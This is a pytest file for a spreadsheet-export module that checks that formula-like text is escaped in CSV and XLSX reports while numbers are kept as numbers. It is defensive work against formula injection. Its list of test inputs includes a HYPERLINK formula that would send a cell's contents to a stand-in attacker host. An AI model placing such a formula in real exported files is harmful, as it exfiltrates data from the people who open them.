"""sohoa/spreadsheet.py and its users: a text that looks like a formula is text in every CSV and XLSX written
(formula injection, issue 14 part 2); numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, update

from loaders.db import session_scope
from loaders.models import Office
from loaders.registry import sync_offices
from reports import Scope, build_report
from reports.model import Column, Report, View
from reports.render import to_csv, to_xlsx
from sohoa import config
from sohoa.spreadsheet import csv_cell, looks_like_formula, xlsx_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")'
DANGEROUS = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
HARMLESS = ["Nông Văn An", "1+1", "", "a=b", " =1", "'=1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_texts_are_escaped_for_csv(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, -5, -2.5, 0, None, True, dt.date(2026, 1, 2)])
def test_other_values_pass_unchanged(value: object) -> None:
    assert not looks_like_formula(value)
    assert csv_cell(value) == value
    assert xlsx_cell(Workbook().active, value) == value


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_are_quoted_strings_never_formulas(tmp_path: Path, write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    assert sheet is not None
    sheet.append([xlsx_cell(sheet, v) for v in [*DANGEROUS, -5, "x"]])
    book.save(tmp_path / "t.xlsx")
    row = next(load_workbook(tmp_path / "t.xlsx").worksheets[0].iter_rows())
    for cell, text in zip(row, DANGEROUS, strict=False):  # (XML reads a CR back as a line feed)
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value == text.replace("\r", "\n")
    assert (row[-2].value, row[-2].data_type) == (-5, "n")
    assert (row[-1].value, row[-1].data_type, row[-1].quotePrefix) == ("x", "s", False)


def test_report_renderers_keep_a_formula_like_text_as_text(tmp_path: Path) -> None:
    columns = (Column("=name", "=Tên"), Column("n", "Số", "int"), Column("p", "Tỉ lệ", "pct"))
    rows = [{"=name": "=1+1", "n": -3, "p": -0.5}, {"=name": "@x", "n": 4, "p": 0.25}]
    view = View("v", "V", columns, rows)
    report = Report(kind="quality", title="t", generated_at=dt.datetime.now(dt.UTC), filters={}, views=[view])
    assert to_csv(view) == "'=name,n,p\n'=1+1,-3,-0.5000\n'@x,4,0.2500\n"
    sheet = load_workbook(to_xlsx(report, tmp_path / "r.xlsx")).worksheets[0]
    header, first, second = ([c for c in r] for r in sheet.iter_rows(max_row=3))
    assert (header[0].value, header[0].data_type) == ("=Tên", "s")
    assert (first[0].value, first[0].data_type, first[0].quotePrefix) == ("=1+1", "s", True)
    assert (second[0].value, second[0].data_type) == ("@x", "s")
    assert (first[1].value, first[1].data_type, first[2].value) == (-3, "n", -0.5)


def test_progress_report_with_an_office_named_like_a_formula(engine: Engine, tmp_path: Path) -> None:
    with session_scope(engine) as session:
        sync_offices(session, config.offices())
        session.execute(update(Office).where(Office.code == "01316").values(name="=1+1"))
    with session_scope(engine) as session:
        report = build_report(session, "progress", Scope(office="042"), dt.date(2026, 3, 31))
    parsed = list(csv.DictReader(io.StringIO(to_csv(report.primary))))
    names = {r["office_code"]: r["office_name"] for r in parsed}
    assert names["01316"] == "'=1+1"
    assert all(not n.startswith("=") for n in names.values())
    book = load_workbook(to_xlsx(report, tmp_path / "progress.xlsx"))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    formula_like = [c for c in cells if c.value == "=1+1"]
    assert formula_like and all(c.data_type == "s" and c.quotePrefix for c in formula_like)
